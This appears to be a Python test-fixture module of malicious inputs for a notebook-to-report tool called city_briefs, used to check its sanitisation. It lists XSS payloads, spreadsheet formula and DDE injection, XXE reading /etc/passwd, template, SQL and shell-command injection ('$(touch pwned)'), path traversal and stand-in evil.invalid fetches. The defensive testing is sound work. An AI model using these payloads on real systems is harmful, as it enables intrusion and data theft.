"""Words, names, files and outputs that would do something if anything took them for more than the text they are.

What would run calls `alert`; what would ask for something asks EVIL; what would write writes `pwned`.
"""

from nbformat.v4 import new_output

from city_briefs.common.theme import MIME
from tests.helpers import blocks

EVIL = "http://evil.invalid"

WORDS = [  # names of the cities of a province, and the free words of its records
    '<script>alert("1")\\</script>', "=1+1", '#import "x"', "$x$ 和 $y$", "**粗**", "长" * 200, "\u200fمرحبا\u200e", "𠮷野家", "_斜_`码`", "&amp;&lt;",
    '\\"); raise SystemExit #', "{{entity_stock}}{% x %}", "[链](http://a.b)<b>", "@SUM(A1)",
]  # fmt: skip
VALUES = [  # what a cell of a table may hold
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid","看")', "=WEBSERVICE(\"http://evil.invalid\")", "+1+1", "-2+3", "@A1", "\t=1+1", "\r=1+1",
    " =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", '"=1+1', "=1+1\n=2+2", '";=1+1', "{=1+1}", "%0A=1+1", "=DDE(\"cmd\";\"/C calc\";\"1\")",
    "-cmd|' /C calc'!A0", "http://evil.invalid/x", "file:///etc/passwd", "\\\\evil.invalid\\share", "mailto:a@evil.invalid", "internal:数据!A1",
    "{ INCLUDETEXT \"/etc/passwd\" }", "{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe}", "]]><x/>", "<!--", "-->", "<![CDATA[x]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "javascript:alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}",
    "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "%s%s%n", "{0.__class__}", "{city}", "__import__('os').system('touch pwned')",
    "'; DROP TABLE complaints; --", "' OR '1'='1", "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned", "&& touch pwned",
    "#eval(\"1\")", "#read(\"/etc/passwd\")", "#panic(1)", "`#panic(1)`{=typst}", "*/ #pagebreak() /*", "<label>", "@label", "\\begin{verbatim}", "\\input{/etc/passwd}",
    "~sub~", "~~删~~", "^sup^", "- 项", "1. 项", "> 引", "| a | b |", "---", "[^1]", "[^1]: 注", "![图](http://evil.invalid/x.png)",
    "\x1b[31m红\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07", "a\x08b", "a\x00b", "a\x0cb", "\ufeff值", "\u202eexe.cod", "a\u2028b", "\ufffe",
    "９９", "1e400", "NaN", "-0", "0x10", "true", "null",
]  # fmt: skip
HEADINGS = [  # what follows the sign of a heading
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "题 {#main onclick=alert(1)}", "题 {.skip style=\"position:fixed\"}", "`<b>`{=html}",
    "`#panic(1)`{=typst}", "[题]{typst:text:fill=\"panic(1)\"}", "[题](javascript:alert(1))", "[题](JaVaScRiPt:alert(1))", "[题](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>", "<a href=javascript:alert(1)>题</a>", "![题](javascript:alert(1))", "![题](http://evil.invalid/x.png)", "题 \"><script>alert(1)</script>",
    "题 title=\"a>b\"><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script>alert(1)\\</script>", "</h1><script>alert(1)</script>", "$\\href{javascript:alert(1)}{题}$",
    "题[^x]", "{{7*7}}", "#panic(1)", "@label <label>", "CITYBRIEFSCUTSHERE",
]  # fmt: skip
MARKDOWN = [  # cells, and outputs of Markdown
    "```{=html}\n<script>alert(1)</script>\n```", "```{=typst}\n#panic(1)\n```", "```{=openxml}\n<w:p/>\n```", "`<img src=x onerror=alert(1)>`{=html}",
    "::: {onclick=alert(1)}\n段\n:::", "::: {typst:block:fill=\"panic(1)\"}\n段\n:::", "<div onclick=alert(1)>段</div>", "<style>@import 'http://evil.invalid/x.css';</style>",
    "<iframe src=http://evil.invalid></iframe>", "<meta http-equiv=refresh content=\"0;url=http://evil.invalid\">", "[x]: javascript:alert(1)\n\n[看][x]",
    "[看](//evil.invalid/share)", "[看](\\\\evil.invalid\\share)", "[看](file:///etc/passwd)", "[看](vbscript:alert(1))", "[看](java\nscript:alert(1))", "![](file:///etc/passwd)",
    "![图](attachment:x.png)", "---\nheader-includes: <script>alert(1)</script>\n---", "% 题 <script>alert(1)</script>", "```python {onclick=alert(1)}\nx\n```", "CITYBRIEFSCUTSHERE",
    "```\n未关", "[^1]: 注 <script>alert(1)</script>\n\n文[^1]", "| a |\n|---|\n| <script>alert(1)</script> |", "\\newcommand{\\x}{<script>}\n\n\\x", "$$\n\\require{html}\\href{javascript:alert(1)}{x}\n$$",
]  # fmt: skip
HTML = [  # outputs of HTML, by what would run or ask
    "<script>alert(1)</script>", f"<script src={EVIL}/x.js></script>", "<script type=module>alert(1)</script>", "<img src=x onerror=alert(1)>", f"<img src={EVIL}/x.png>", "<img srcset='http://evil.invalid/x.png 1x'>",
    "<svg onload=alert(1)></svg>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<a href=javascript:alert(1)>x</a>", "<a href=' java&#10;script:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='//evil.invalid'>x</a>",
    f"<a href={EVIL} target=_blank ping={EVIL}/p>x</a>", f"<iframe src={EVIL}></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=/etc/passwd></iframe>", f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>", f"<link rel=stylesheet href={EVIL}/x.css>", f"<link rel=prefetch href={EVIL}/x>", f"<style>@import '{EVIL}/x.css'; body {{ background: url({EVIL}/x.png) }}</style>", f"<p style='background: url({EVIL}/x.png)'>x",
    "<td style='text-align: right; position: fixed'>x</td>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<base href={EVIL}/>", f"<form action={EVIL}><input autofocus onfocus=alert(1)><button>x</button></form>",
    "<input type=image src=x onerror=alert(1)>", f"<video src={EVIL}/x.mp4 autoplay onerror=alert(1)></video>", f"<audio src={EVIL}/x.mp3 autoplay></audio>", f"<video poster={EVIL}/x.png></video>", "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>", "<div onpointerenter=alert(1) autofocus tabindex=0 onfocus=alert(1)>x</div>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<xmp><img src=x onerror=alert(1)></xmp>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php alert(1) ?>",
    "<b title='</main><script>alert(1)</script>'>x</b>", "</main></body><script>alert(1)</script>", "<h1 title=\"a><script>alert(1)</script>\">x</h1>", "<div id=main></div><a id=main name=alert></a>", "<table background=http://evil.invalid/x.png><tr><td>x",
    "<img src='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4='>", "<marquee onstart=alert(1)>x</marquee>", "<portal src=http://evil.invalid></portal>",
    "<style scoped>td { color: red }</style><table class=dataframe><tr><td>1</td></tr></table>", "<div typst:block:fill='panic(1)' data-custom-style=Title>x</div>", "<dialog open><script>alert(1)</script></dialog>",
]  # fmt: skip
SVG = [  # drawings of a block
    "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.invalid/x.png'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'><text>x</text></a></svg>", "<svg xmlns='http://www.w3.org/2000/svg'><use href='http://evil.invalid/x.svg#a'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject></svg>", "<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'http://evil.invalid/x.css'</style></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><style>* { fill: url(http://evil.invalid/x) }</style></svg>", "<svg xmlns='http://www.w3.org/2000/svg'><path style='fill: \\75rl(http://evil.invalid/x)' d=''/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><!--><script>alert(1)</script>--></svg>", "<svg xmlns='http://www.w3.org/2000/svg'><text><![CDATA[</svg><script>alert(1)</script>]]></text></svg>", "<svg xmlns='http://www.w3.org/2000/svg'><set attributeName='onload' to='alert(1)'/></svg>",
    "<!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&e;</text></svg>", "<svg><script>alert(1)</script></svg>", "<svg", "<script>alert(1)</script>",
]  # fmt: skip
FORGED = [  # what calls itself a block and is none
    "<script>alert(1)</script>", ["<script>alert(1)</script>"], {"kind": "html", "html": "<script>alert(1)</script>", "source": "<script>alert(1)</script>", "figures": []},
    {"kind": "markdown", "source": "<script>alert(1)</script>", "html": "<script>alert(1)</script>", "figures": []}, {"kind": "image", "address": "x\" onerror=\"alert(1)", "suffix": "svg", "alt": "", "figures": []},
    {"kind": "prose", "html": "<script>alert(1)</script>", "page": "<script>alert(1)</script>", "typst": "#panic(1)", "paragraphs": ["段"]}, {"kind": ["prose"], "html": "<script>alert(1)</script>"},
]  # fmt: skip
OUTPUTS = [  # any other outputs
    new_output("display_data", {"application/javascript": "alert(1)"}), new_output("display_data", {"application/javascript": "alert(1)", "text/plain": "<script>alert(1)</script>"}),
    new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "IntSlider(value='<img src=x onerror=alert(1)>')"}),
    new_output("display_data", {"application/vnd.plotly.v1+json": {"data": []}, "text/html": f"<script src={EVIL}/plotly.js></script>"}), new_output("display_data", {"text/latex": "$\\href{javascript:alert(1)}{x}$", "text/plain": "x"}),
    new_output("display_data", {"application/pdf": "JVBERi0="}),
    new_output("display_data", {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>alert(1)</script></svg>", "text/plain": "\" onerror=\"alert(1)"}),
    new_output("stream", text="\x1b[31m红\x1b[0m <script>alert(1)</script>"), new_output("stream", text=f"\x1b]8;;{EVIL}\x07link\x1b]8;;\x07\x1b]0;title\x07"), new_output("stream", name="stderr", text="\x1b[2J\x1b[H</pre><script>alert(1)</script>"),
    new_output("error", ename="<script>alert(1)</script>", evalue="<img src=x onerror=alert(1)>", traceback=["</pre><script>alert(1)</script>"]), new_output("execute_result", {"text/plain": "</pre><img src=x onerror=alert(1)>"}),
]  # fmt: skip
PARAMETER_NAMES = [
    "ctiy", "year ", "City", "city=1;import os#", "city\nimport os", "__class__", "__import__('os').system('touch pwned')", "", "exec", "data", "BRIEFS_DATA", "year; raise SystemExit", "model_config", "{city}", "城市",
    "through\x00",
]  # fmt: skip
PARAMETER_VALUES = [  # of parameters that are numbers
    "2021", "__import__('os')", "2021; import os", True, 2021.0, float("nan"), float("inf"), 10**400, -1, 0, None, [2021], {"year": 2021}, b"2021", "'+1", "20\u0662\u0661",
]  # fmt: skip
CITIES = [  # words for a city on the command line
    "兰州'; import os; os.system('touch pwned') #", '兰州"""+__import__("os").getcwd()+"""', "{兰州}", "${HOME}", "$(touch pwned)", "`touch pwned`", "../../etc", "/etc/passwd", "620100/../620200", "620100\n620200",
    "--out=/etc", "%62", "620100;", "兰州市*", "\\", "\x1b[31m", "620100\u200b", "𝟼𝟸𝟶𝟷𝟶𝟶",
]  # fmt: skip
CODES = [  # of regions, by which folders are named
    "..", "../../x", "/etc", "/", ".", "./x", "a/b", "a\\b", "..\\..\\x", "~", "~root", "C:", "C:\\x", "\\\\evil.invalid\\x", "x\x00", "x\n", " ", "62 0100", "-rf", "$(x)", "620100;x", "62%2e", "６２０１００", "*", "兰州", "{x}", ".chapters",
]  # fmt: skip
PACKS = ["../y", "/etc/y", "a/c", "A", "a c", "-x", "a.b", "a\n", "y\x00", "{city}", "简报", "index.html", ""]  # ids of packs
CHAPTERS = [
    "../summary",
    "/etc/summary",
    "a/b",
    "a b",
    "{city}",
    "x\x00",
    ".summary",
    "summary\n",
    "$(x)",
    "",
]  # names of chapters
FILE_NAMES = [  # of tables that are sent; no slash and no NUL, which no file system has
    "entities_=cmd|' ⁄C calc'!A0.csv", "entities_+1.csv", "entities_@SUM(A1).csv", "entities_<img src=x onerror=alert(1)>.csv", "entities_$(touch pwned).csv", "entities_`touch pwned`.csv", "entities_;touch pwned;.csv",
    "entities_..\\..\\x.csv", "entities_%2e%2e%2fx.csv", "entities_{{7*7}}.csv", "entities_{0.__class__}.csv", "entities_[bold red].csv", "entities_a\nb.csv", "entities_\x1b[31m.csv", "entities_\u202evsc.exe.csv",
    "entities_'quote'.csv", 'entities_"quote".csv', "entities_*.csv", "entities_?.csv", "entities_~.csv", "entities_-rf.csv", "entities_%s%n.csv", "entities_𠮷.csv", "entities_.csv.csv", "entities_" + "x" * 200 + ".csv",
]  # fmt: skip
LINKED = [  # pictures that name others
    new_output("display_data", {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='alert(1)'><image href='{address}' width='9' height='9'/></svg>"})
    for address in (f"{EVIL}/x.png", "file:///etc/passwd", "/etc/passwd", "../../etc/passwd", "pyproject.toml", "own.png")
]  # fmt: skip
BY_KIND = {
    "values": WORDS + VALUES, "headings": HEADINGS, "codes and ids": CODES + PACKS, "names of parameters": PARAMETER_NAMES,
    "values of parameters": PARAMETER_VALUES + CITIES, "file names": FILE_NAMES + CHAPTERS, "markdown": MARKDOWN, "html": HTML,
    "drawings": SVG, "blocks": FORGED, "other outputs": OUTPUTS + LINKED,
}  # fmt: skip


def shown(**bundle: object):
    """An output of one kind, or of several: html, markdown, block."""
    kinds = {"html": "text/html", "markdown": "text/markdown", "block": MIME, "plain": "text/plain"}
    return new_output("display_data", {kinds[kind]: content for kind, content in bundle.items()})


def block(kind: str, **content: object):
    """What a chapter shows."""
    return blocks.block(kind, **{"metrics": [], "notes": [], "sources": []} | content)
